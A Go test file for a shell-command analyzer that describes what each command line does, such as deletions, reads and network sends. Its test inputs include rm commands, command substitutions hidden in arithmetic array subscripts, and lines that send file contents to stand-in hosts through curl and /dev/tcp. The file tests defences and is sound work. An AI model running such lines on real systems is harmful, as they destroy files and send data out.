package shell_test

import (
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/planlint/planlint/shell"
)

// TestFolding holds the expansions that are computed, and those that must not be.
func TestFolding(t *testing.T) {
	for line, want := range map[string]string{
		// arithmetic changes variables, and is computed where it is constant
		"x=1; ((x=2)); rm f$x":                      "delete f2, irreversible-internal",
		"x=1; ((x+=4)); rm f$x":                     "delete f5, irreversible-internal",
		"x=1; ((x++)); rm f$x":                      "delete f2, irreversible-internal",
		"x=1; let x=7; rm f$x":                      "delete f7, irreversible-internal",
		"rm f$((2*3 - 1))":                          "delete f5, irreversible-internal",
		"x=4; rm f$((x % 3))":                       "delete f1, irreversible-internal",
		"rm f$((1/0))":                              "delete f0*, irreversible-internal",
		"i=0; while true; do rm f$i; ((i++)); done": "delete f0, delete f0*, irreversible-internal",
		"x=a; while true; do rm $x; x=b; done":      "delete a, delete …, irreversible-internal, ?write",
		"for ((i=0;i<3;i++)); do rm f$i; done":      "delete f0*, irreversible-internal",
		"((x = $(rm a; echo 1)))":                   "delete a, irreversible-internal",
		`x='a[$(rm k)]'; ((x))`:                     "delete k, irreversible-internal",
		`x='a[$(rm k)]'; [[ $x -eq 1 ]]`:            "delete k, irreversible-internal",
		`[[ -v 'a[$(rm k)]' ]]`:                     "delete k, irreversible-internal",
		`x='a[$(rm k)]'; [[ $x = 1 ]]; ls`:          "none, ro",
		`a=(x y z); rm ${a[1]}`:                     "delete y, irreversible-internal",
		`a=(x y z); i=1; rm ${a[i+1]}`:              "delete z, irreversible-internal",
		`a=(x y z); rm ${a[-1]}`:                    "delete z, irreversible-internal",
		`a=(x y z); rm f${#a[@]}`:                   "delete f3, irreversible-internal",
		`a=(x "$U"); rm ${a[0]}`:                    "delete …, irreversible-internal, ?write",
		// text
		"x=a.txt; rm ${x/txt/md}": "delete a.md, irreversible-internal",
		"x=axa; rm ${x//a/b}":     "delete bxb, irreversible-internal",
		"x=axa; rm ${x/a}":        "delete xa, irreversible-internal",
		"x=axa; rm ${x/#a/b}":     "delete …, irreversible-internal, ?write",
		"x=axa; rm ${x/?/b}":      "delete …, irreversible-internal, ?write",
		"x=abcdef; rm ${x:2}":     "delete cdef, irreversible-internal",
		"x=abcdef; rm ${x:1:3}":   "delete bcd, irreversible-internal",
		"x=abcdef; rm ${x: -2}":   "delete ef, irreversible-internal",
		"x=abcdef; rm f${#x}":     "delete f6, irreversible-internal",
		"x=Ab; rm ${x,,}":         "delete ab, irreversible-internal",
		"x=Ab; rm ${x^^}":         "delete AB, irreversible-internal",
		// branches
		"if true; then x=1; else x=1; fi; rm f$x": "delete f1, irreversible-internal",
		"if true; then x=p; else x=q; fi; rm f$x": "delete f…, irreversible-internal, ?write",
		"case a in b) x=p;; c) x=q;; esac; rm $x": "delete …, irreversible-internal, ?write",
	} {
		require.Equal(t, want, shell.Parse(line, testEnv).Describe(testEnv.Cwd), line)
	}
}

// TestBothBranchesFlow: a value that may come from either branch comes from both.
func TestBothBranchesFlow(t *testing.T) {
	for _, line := range []string{
		`if true; then x=$(cat k); else x=$(cat l); fi; curl -d "$x" https://x.example`,
		`case a in b) x=$(cat k);; c) x=$(cat l);; esac; curl -d "$x" https://x.example`,
		`x=$(cat k); while true; do x=$(cat l); done; curl -d "$x" https://x.example`,
	} {
		s := shell.Parse(line, testEnv)
		send := s.Steps[len(s.Steps)-1]
		var from []string
		for _, k := range send.Args[1].Steps {
			from = append(from, s.Steps[k].Args[0].Text)
		}
		require.Subset(t, from, []string{"k", "l"}, line)
	}
}

// TestDescriptors: each open descriptor keeps its own target.
func TestDescriptors(t *testing.T) {
	for line, want := range map[string]string{
		"exec 3>/dev/tcp/192.0.2.1/80 4>log; cat k >&3": "send 192.0.2.1, write log, read k, send 192.0.2.1, irreversible-public",
		"exec 3>/dev/tcp/192.0.2.1/80 4>log; cat k >&4": "send 192.0.2.1, write log, read k, append log, irreversible-public",
		"exec {fd}>log; cat k >&9":                      "write log, read k, append log",
	} {
		require.Equal(t, want, shell.Parse(line, testEnv).Describe(testEnv.Cwd), line)
	}
}
